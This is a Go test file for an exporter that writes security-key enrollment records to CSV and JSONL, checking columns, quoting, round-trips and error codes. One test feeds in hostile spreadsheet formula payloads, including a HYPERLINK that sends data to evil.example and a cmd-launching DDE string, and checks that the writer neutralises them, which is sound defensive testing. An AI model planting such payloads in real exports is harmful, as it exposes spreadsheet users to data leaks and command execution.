package inventory

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

func sample() *Record {
	created := time.Date(2025, 3, 4, 10, 11, 12, 0, time.FixedZone("CET", 3600))
	finished := time.Date(2025, 3, 4, 9, 12, 13, 500_000_000, time.UTC)
	return &Record{
		UserPrincipalName: "adele@contoso.com", UserID: "0b6e6a4c-5a8b-4b83-9b1f-6b0c7a1e2d3f", Outcome: "done",
		MethodID: "bWV0aG9k", CredentialID: "Y3JlZA", AAGUID: "2fc0579f-8113-47ea-b116-bb5a8db9202a",
		Model: "YubiKey 5 NFC", Serial: "12345678", Firmware: "5.4.3", DisplayName: "YubiKey 5 NFC 12345678", CreatedDateTime: &created,
		Station: "desk-1", Operator: "it@contoso.com", RequestIDs: []string{"r-1", "r-2"}, FinishedDateTime: &finished,
	}
}

func code(err error) string {
	var e *Error
	if errors.As(err, &e) {
		return e.ErrorCode()
	}
	return ""
}

func TestColumnsAreTheJSONNames(t *testing.T) {
	typ := reflect.TypeFor[Record]()
	var want []string
	for i := range typ.NumField() {
		name, _, _ := strings.Cut(typ.Field(i).Tag.Get("json"), ",")
		want = append(want, name)
	}
	if got := Columns(); !reflect.DeepEqual(got, want) {
		t.Fatalf("Columns() = %q, want %q", got, want)
	}
	Columns()[0] = "changed"
	if Columns()[0] != "userPrincipalName" {
		t.Fatal("Columns returns the package's own slice")
	}
	if got := len(sample().cells(nil)); got != len(want) {
		t.Fatalf("%d cells for %d columns", got, len(want))
	}
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, data)
	}
	return rows
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, "csv")
	if err != nil {
		t.Fatal(err)
	}
	failed := &Record{UserPrincipalName: "alex@contoso.com", Outcome: "failed", ErrorCode: "key_full", ErrorMessage: "the key has no room, \"really\"\nline two"}
	for _, r := range []*Record{sample(), failed} {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	want := [][]string{
		Columns(),
		{"adele@contoso.com", "0b6e6a4c-5a8b-4b83-9b1f-6b0c7a1e2d3f", "done", "bWV0aG9k", "Y3JlZA", "2fc0579f-8113-47ea-b116-bb5a8db9202a",
			"YubiKey 5 NFC", "12345678", "5.4.3", "YubiKey 5 NFC 12345678", "2025-03-04T09:11:12Z", "desk-1", "it@contoso.com", "", "", "r-1;r-2",
			"2025-03-04T09:12:13.5Z"},
		{"alex@contoso.com", "", "failed", "", "", "", "", "", "", "", "", "", "", "key_full", "the key has no room, \"really\"\nline two", "", ""},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows\n got %q\nwant %q", rows, want)
	}
	if !strings.HasSuffix(buf.String(), "\n") || strings.Contains(buf.String(), "\r") {
		t.Errorf("line ends: %q", buf.String())
	}
}

func TestCSVEmptyHasHeader(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, "csv")
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	_ = w.Flush()
	if rows := readCSV(t, buf.Bytes()); !reflect.DeepEqual(rows, [][]string{Columns()}) {
		t.Errorf("rows %q", rows)
	}
}

// TestCSVFormulaInjection writes hostile UPNs and display names (from a roster or from
// Entra) and reads the CSV back as a spreadsheet would: no cell starts a formula.
func TestCSVFormulaInjection(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1,2)@contoso.com", "'@SUM(1,2)@contoso.com"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"＝1+1", "'＝1+1"},
		{"＠x", "'＠x"},
		{"adele@contoso.com", "adele@contoso.com"},
		{"a=b", "a=b"},
		{"'=already", "'=already"},
		{" =1", " =1"},
		{"\"=1\"", "\"=1\""},
		{"", ""},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			var buf bytes.Buffer
			w, _ := NewWriter(&buf, "csv")
			r := &Record{UserPrincipalName: tt.in, DisplayName: tt.in, ErrorMessage: tt.in, RequestIDs: []string{tt.in}, Outcome: "done", Firmware: tt.in}
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
			_ = w.Flush()
			rows := readCSV(t, buf.Bytes())
			row := rows[1]
			for _, name := range []string{"userPrincipalName", "firmware", "displayName", "errorMessage", "requestIds"} {
				i := slices.Index(columns, name)
				if row[i] != tt.want {
					t.Errorf("column %s: %q, want %q", columns[i], row[i], tt.want)
				}
			}
		})
	}
}

func TestJSONL(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewWriter(&buf, "jsonl")
	if err != nil {
		t.Fatal(err)
	}
	in := []*Record{sample(), {UserPrincipalName: "<b>&x@contoso.com", Outcome: "skipped", ErrorCode: "user_disabled"}}
	for _, r := range in {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines: %q", len(lines), buf.String())
	}
	for i, line := range lines {
		var got Record
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatal(err)
		}
		want := in[i].utc()
		if !reflect.DeepEqual(&got, want) {
			t.Errorf("line %d decodes to %+v, want %+v", i, got, *want)
		}
	}
	if !strings.Contains(lines[0], `"createdDateTime":"2025-03-04T09:11:12Z"`) || !strings.Contains(lines[0], `"requestIds":["r-1","r-2"]`) {
		t.Errorf("line 0: %s", lines[0])
	}
	if lines[1] != `{"userPrincipalName":"<b>&x@contoso.com","userId":"","outcome":"skipped","errorCode":"user_disabled"}` {
		t.Errorf("line 1: %s", lines[1])
	}
	if in[0].CreatedDateTime.Location().String() != "CET" {
		t.Error("Write changed the caller's record")
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestErrors(t *testing.T) {
	if _, err := NewWriter(&bytes.Buffer{}, "xlsx"); code(err) != "invalid_format" {
		t.Errorf("xlsx: %v", err)
	}
	for _, format := range []string{"csv", "jsonl"} {
		w, _ := NewWriter(&bytes.Buffer{}, format)
		if err := w.Write(nil); code(err) != "invalid_record" {
			t.Errorf("%s: nil record: %v", format, err)
		}
		w, _ = NewWriter(failingWriter{}, format)
		err := w.Write(sample())
		if err == nil {
			err = w.Flush()
		}
		if code(err) != "output_failed" || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("%s: failing writer: %v", format, err)
		}
	}
}
